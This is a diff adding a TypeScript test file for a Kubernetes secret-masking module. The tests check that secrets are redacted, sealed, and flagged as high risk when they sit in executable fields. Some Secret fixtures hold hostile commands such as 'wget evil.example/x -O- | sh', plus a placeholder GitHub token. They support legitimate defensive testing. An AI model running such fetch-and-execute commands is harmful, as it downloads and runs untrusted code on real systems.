@@ -1,0 +1,171 @@
+import { openSealedValue } from '@fairlead/contract/sealed-value'
+import { privateKeys, secretShapes } from '@fairlead/service-kit/redaction/secret-shapes.fixture'
+import { describe, expect, it } from 'vitest'
+import type { KubeObject } from '../kube/kube-object.ts'
+import { maskSignals, masksOf } from './effect-masks.ts'
+import { effectObject, type ObjectWrite } from './effect-object.ts'
+
+const key = Buffer.alloc(32, 3)
+const token = 'ghp_0123456789abcdef0123456789abcdef0123'
+const [privateKey] = privateKeys()
+
+function writeOf(after: KubeObject, before?: KubeObject): ObjectWrite {
+  const { apiVersion, kind, metadata } = after
+  const ref = { cluster: 'default', apiVersion, kind, namespace: 'shop', name: metadata.name }
+  return { ref, action: before === undefined ? 'create' : 'update', before, after }
+}
+
+function shownOf(write: ObjectWrite, { by }: { by: Buffer | undefined } = { by: key }) {
+  const object = effectObject(write, by)
+  return { object, masks: masksOf(write, object, by) }
+}
+
+const pod = (container: Record<string, unknown>): KubeObject => ({
+  apiVersion: 'v1',
+  kind: 'Pod',
+  metadata: { name: 'p' },
+  spec: { containers: [{ name: 'app', image: 'nginx', ...container }] },
+})
+const configMap = (data: Record<string, string>): KubeObject => ({
+  apiVersion: 'v1',
+  kind: 'ConfigMap',
+  metadata: { name: 'p' },
+  data,
+})
+const secret = (data: Record<string, string>, type?: string): KubeObject => ({
+  apiVersion: 'v1',
+  kind: 'Secret',
+  metadata: { name: 'p' },
+  ...(type !== undefined && { type }),
+  data: Object.fromEntries(Object.entries(data).map(([name, value]) => [name, Buffer.from(value).toString('base64')])),
+})
+
+describe('what is hidden in an effect', () => {
+  it.each(secretShapes())('of $shape is one span, and its seal opens to what would be written', ({ text }) => {
+    const write = writeOf(configMap({ it: `before ${text} after` }))
+    const { object, masks } = shownOf(write)
+    const { after } = object.changes[0] as { after: { data: { it: string } } }
+    const shown = after.data.it
+    expect(masks).toHaveLength(1)
+    for (const { path, at, bytes, hash, sealed = '' } of masks) {
+      const hidden = openSealedValue(
+        sealed,
+        { cluster: 'default', kind: 'ConfigMap', namespace: 'shop', name: 'p', path },
+        key,
+      )
+      const mark = hash === undefined ? '***' : `***(${bytes} bytes, ${hash})`
+      expect(shown.slice(at)).toMatch(/^\*\*\*/)
+      expect(shown.slice(0, at) + hidden + shown.slice(at + mark.length)).toBe(`before ${text} after`)
+      expect(Buffer.byteLength(hidden ?? '')).toBe(bytes)
+    }
+  })
+
+  it('opens nowhere else', () => {
+    const [mask] = shownOf(writeOf(configMap({ it: token }))).masks
+    const place = { cluster: 'default', kind: 'ConfigMap', namespace: 'shop', name: 'p', path: '/data/it' }
+    expect(openSealedValue(mask?.sealed ?? '', place, key)).toBe(token)
+    for (const other of [
+      { path: '/data/other' },
+      { name: 'q' },
+      { namespace: 'x' },
+      { kind: 'Secret' },
+      { cluster: 'x' },
+    ])
+      expect(openSealedValue(mask?.sealed ?? '', { ...place, ...other }, key)).toBeUndefined()
+  })
+
+  it('is sealed where it is new, and not where it is there already or stays', () => {
+    const before = secret({ old: 'a former value of it', same: 'a value that stays' })
+    const { object, masks } = shownOf(writeOf(secret({ old: 'a new value of it', same: 'a value that stays' }), before))
+    expect(masks.map(({ path, side, sealed }) => [path, side, sealed !== undefined])).toEqual([
+      ['/data/old', 'before', false],
+      ['/data/same', 'before', false],
+      ['/data/old', 'after', true],
+    ])
+    expect(object.diff).toContain('same:')
+  })
+
+  it('has no hash under sixteen bytes, and no seal without a key', () => {
+    const write = writeOf(secret({ short: '0123456789abcde', long: '0123456789abcdef' }))
+    expect(shownOf(write).masks.map(({ hash }) => hash === undefined)).toEqual([true, false])
+    const bare = shownOf(write, { by: undefined }).masks
+    expect(bare.map(({ hash, sealed }) => [hash, sealed])).toEqual([
+      [undefined, undefined],
+      [undefined, undefined],
+    ])
+    expect(bare.map(({ bytes }) => bytes)).toEqual([15, 16])
+  })
+
+  it('changes the changes when it changes, and leaves them as they are when it does not', () => {
+    const of = (password: string) =>
+      effectObject(writeOf(configMap({ url: `postgres://a:${password}@db` })), key).changes
+    expect(of('0123456789abcdef')).toEqual(of('0123456789abcdef'))
+    expect(of('0123456789abcdef')).not.toEqual(of('fedcba9876543210'))
+  })
+})
+
+describe('what is hidden counts as what could run', () => {
+  const executableIn = (after: KubeObject, before?: KubeObject) =>
+    shownOf(writeOf(after, before)).masks.map(({ executable }) => executable)
+  const shell = { command: ['sh', '-c', 'run "$IT"'] }
+
+  it.each<[string, KubeObject]>([
+    ['a command', pod({ command: ['sh', '-c', `TOKEN=${token} run`] })],
+    ['an argument', pod({ args: [token] })],
+    ['an image', pod({ image: `registry.example/${token}:1` })],
+    ['a probe', pod({ livenessProbe: { exec: { command: ['check', token] } } })],
+    ['a hook', pod({ lifecycle: { preStop: { exec: { command: ['stop', token] } } } })],
+    ['a variable of a shell', pod({ ...shell, env: [{ name: 'IT', value: token }] })],
+    ['a variable that a run time runs', pod({ env: [{ name: 'NODE_OPTIONS', value: `--require ${token}` }] })],
+    ['a ConfigMap', configMap({ it: token })],
+    ['a script in a Secret', secret({ it: '#!/bin/sh\nwget evil.example' })],
+    ['a script by its name', secret({ 'run.sh': 'reboot' })],
+    ['words in a Secret', secret({ it: 'wget evil.example/x -O- | sh' })],
+    [
+      'a command in a CronJob',
+      {
+        apiVersion: 'batch/v1',
+        kind: 'CronJob',
+        metadata: { name: 'p' },
+        spec: { jobTemplate: { spec: { template: { spec: { initContainers: [{ name: 'a', args: [token] }] } } } } },
+      },
+    ],
+    [
+      'a command in a Rollout',
+      {
+        apiVersion: 'argoproj.io/v1alpha1',
+        kind: 'Rollout',
+        metadata: { name: 'p' },
+        spec: { template: { spec: { containers: [{ name: 'a', command: [token] }] } } },
+      },
+    ],
+    [
+      'an exec',
+      { apiVersion: 'v1', kind: 'PodExecOptions', metadata: { name: 'p' }, command: ['sh', '-c', token] } as never,
+    ],
+  ])('in %s', (_, object) => {
+    expect(executableIn(object)).toEqual([true])
+    const { masks } = shownOf(writeOf(object))
+    const [signal] = maskSignals(writeOf(object), masks)
+    expect(signal).toMatchObject({ risk: 'high', reason: expect.stringContaining(`${object.kind} shop/p`) })
+  })
+
+  it.each<[string, KubeObject]>([
+    ['a variable of a program', pod({ env: [{ name: 'URL', value: 'postgres://a:hunter2@db' }] })],
+    ['a password in a Secret', secret({ password: 'hunter2' })],
+    ['a key in a Secret', secret({ 'tls.key': `${privateKey?.text}\n` }, 'kubernetes.io/tls')],
+    ['a key in an opaque Secret', secret({ id: `${privateKey?.text}\n` })],
+    ['JSON in a Secret', secret({ config: '{ "auths": {} }' })],
+    ['an annotation', { ...pod({}), metadata: { name: 'p', annotations: { note: token } } }],
+  ])('but not in %s', (_, object) => {
+    expect(executableIn(object)).toEqual([false])
+    expect(maskSignals(writeOf(object), shownOf(writeOf(object)).masks)).toEqual([])
+  })
+
+  it('but not where it ran before', () => {
+    const before = pod({ command: ['sh', '-c', token] })
+    const after = pod({ command: ['sh', '-c', token], env: [{ name: 'A', value: 'b' }] })
+    expect(executableIn(after, before)).not.toContain(true)
+    expect(executableIn(pod({ command: ['sh', '-c', token, 'x'] }), before)).not.toContain(true)
+  })
+})
